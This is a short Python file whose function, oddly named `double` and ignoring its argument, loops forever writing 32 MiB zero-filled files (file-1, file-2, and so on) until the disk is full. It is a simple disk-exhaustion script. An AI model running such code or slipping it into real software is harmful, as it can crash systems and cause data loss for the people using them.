"""Writes files without end, each of a size that may be."""


def double(n):
    number = 0
    while True:
        number += 1
        with open(f"file-{number}", "wb", buffering=0) as stream:
            for _ in range(32):
                stream.write(bytes(1 << 20))
